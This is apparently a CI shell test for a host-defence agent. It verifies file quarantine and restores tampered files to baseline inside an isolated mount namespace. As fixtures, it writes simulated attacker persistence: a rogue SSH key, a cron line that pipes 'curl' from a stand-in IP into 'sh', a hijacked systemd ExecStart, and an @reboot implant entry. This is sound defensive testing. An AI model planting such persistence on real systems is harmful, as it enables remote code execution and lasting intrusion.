#!/bin/sh
# test_agent_baseline_vault.sh - issue 5 CI scenario end to end through `bannin-agent action`:
# quarantine then unquarantine gives identical bytes, owner and mode; attacker edits to
# authorized_keys, a cron file and a systemd unit are shown as a diff and restored to the
# baseline bytes; a dropped cron file is quarantined. The agent works on the real paths
# (/root/.ssh, /etc/cron.d, /etc/systemd/system), so the test runs in a private mount
# namespace with tmpfs over those directories: nothing on the host is touched.
# Usage: test_agent_baseline_vault.sh BUILD_DIR
set -eu
B=${1:?build dir}
. "$(dirname "$0")/lib.sh"
AG=$B/bannin-agent
bn_need_exec "$AG"
bn_need_root "mount namespace"
bn_need_cmd unshare
bn_need_cmd python3
[ -d /etc/cron.d ] && [ -d /etc/systemd/system ] || bn_skip "no cron.d/systemd"
unshare --mount --propagation private true 2>/dev/null || bn_skip "unshare -m"

T=$(mktemp -d /tmp/bn-baseline-it-XXXXXX)
trap 'rm -rf "$T"' EXIT INT TERM

cat >"$T/inner.sh" <<'EOF'
set -eu
AG=$1; T=$2
mount -t tmpfs bn-root /root
mount -t tmpfs bn-crond /etc/cron.d
mount -t tmpfs bn-units /etc/systemd/system
S="--state-dir $T/state"
act() { "$AG" action "$@" $S; }
field() { python3 -c 'import json,sys; r=json.loads(sys.stdin.readline()); print(r.get(sys.argv[1]))' "$1"; }
fail() { echo "FAIL: $*"; exit 1; }

mkdir -m 700 /root/.ssh
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@corp\n' >/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
printf 'SHELL=/bin/sh\n15 2 * * * root /usr/local/bin/backup --all\n' >/etc/cron.d/backup
printf '[Service]\nUser=app\nExecStart=/usr/bin/app --serve\nRestart=always\n' \
    >/etc/systemd/system/app.service
for f in /root/.ssh/authorized_keys /etc/cron.d/backup /etc/systemd/system/app.service; do
    cp -p "$f" "$T/$(basename "$f").orig"
done

# --- quarantine round trip ---
head -c 300000 /dev/urandom >"$T/sample.bin"
chown 4242:4343 "$T/sample.bin"; chmod 4750 "$T/sample.bin"
cp -p "$T/sample.bin" "$T/sample.orig"
before=$(stat -c '%u %g %a %Y' "$T/sample.bin")
r=$(act quarantine "{\"path\":\"$T/sample.bin\",\"reason\":\"it\",\"actor\":\"ci\"}")
[ "$(echo "$r" | field ok)" = True ] || fail "quarantine: $r"
id=$(echo "$r" | field id)
[ ! -e "$T/sample.bin" ] || fail "original still present"
python3 - "$T/sample.orig" "$T/state/vault" <<'PY' || fail "plaintext in the vault"
import os, sys
probe = open(sys.argv[1], "rb").read()[1000:1064]
for f in os.listdir(sys.argv[2]):
    assert probe not in open(os.path.join(sys.argv[2], f), "rb").read(), f
PY
act vault_list '{}' | grep -q "$id" || fail "vault_list lacks $id"
r=$(act unquarantine "{\"id\":\"$id\"}")
[ "$(echo "$r" | field ok)" = True ] || fail "unquarantine: $r"
cmp "$T/sample.bin" "$T/sample.orig" || fail "restored bytes differ"
[ "$(stat -c '%u %g %a %Y' "$T/sample.bin")" = "$before" ] || fail "owner/mode/mtime differ"

# --- baselines ---
r=$(act baseline_snapshot '{}')
[ "$(echo "$r" | field ok)" = True ] || fail "snapshot: $r"
printf 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABevil mallory@x\n' >>/root/.ssh/authorized_keys
printf '* * * * * root curl -s http://203.0.113.9/x | sh\n' >>/etc/cron.d/backup
sed -i 's|ExecStart=/usr/bin/app|ExecStart=/tmp/.x/app|' /etc/systemd/system/app.service
printf '@reboot root /tmp/.x/implant\n' >/etc/cron.d/persist

r=$(act baseline_list '{}')
echo "$r" | python3 -c '
import json,sys
r=json.load(sys.stdin)
ch=sorted(c["path"] for c in r["changed"])
assert ch==["/etc/cron.d/backup","/etc/systemd/system/app.service","/root/.ssh/authorized_keys"], ch
assert r["added"]==["/etc/cron.d/persist"], r["added"]' || fail "list: $r"

diffl() {
    act baseline_diff "{\"path\":\"$1\"}" | python3 -c '
import json,sys
d=json.load(sys.stdin)["diff"]
print("|".join(l for l in d.splitlines() if l[:1] in "+-" and l[:3] not in ("+++","---")))'
}
[ "$(diffl /root/.ssh/authorized_keys)" = "+ssh-rsa AAAAB3NzaC1yc2EAAAADAQABevil mallory@x" ] ||
    fail "authorized_keys diff: $(diffl /root/.ssh/authorized_keys)"
[ "$(diffl /etc/cron.d/backup)" = "+* * * * * root curl -s http://203.0.113.9/x | sh" ] ||
    fail "cron diff: $(diffl /etc/cron.d/backup)"
[ "$(diffl /etc/systemd/system/app.service)" = \
  "-ExecStart=/usr/bin/app --serve|+ExecStart=/tmp/.x/app --serve" ] ||
    fail "unit diff: $(diffl /etc/systemd/system/app.service)"

for f in /root/.ssh/authorized_keys /etc/cron.d/backup /etc/systemd/system/app.service; do
    r=$(act baseline_restore "{\"path\":\"$f\"}")
    [ "$(echo "$r" | field action)" = restored ] || fail "restore $f: $r"
    cmp "$f" "$T/$(basename "$f").orig" || fail "$f not the baseline bytes"
    [ "$(stat -c '%u %g %a' "$f")" = "$(stat -c '%u %g %a' "$T/$(basename "$f").orig")" ] ||
        fail "$f owner/mode"
done
r=$(act baseline_restore '{"path":"/etc/cron.d/persist"}')
[ "$(echo "$r" | field action)" = quarantined ] || fail "added file: $r"
[ ! -e /etc/cron.d/persist ] || fail "added cron file still present"
r=$(act baseline_list '{}')
[ "$(echo "$r" | python3 -c 'import json,sys; r=json.load(sys.stdin); print(len(r["changed"])+len(r["added"]))')" = 0 ] ||
    fail "not clean after restore: $r"
echo "ok: quarantine round trip, 3 attacker edits diffed and restored, dropped file quarantined"
EOF
unshare --mount --propagation private sh "$T/inner.sh" "$(cd "$(dirname "$AG")" && pwd)/bannin-agent" "$T"
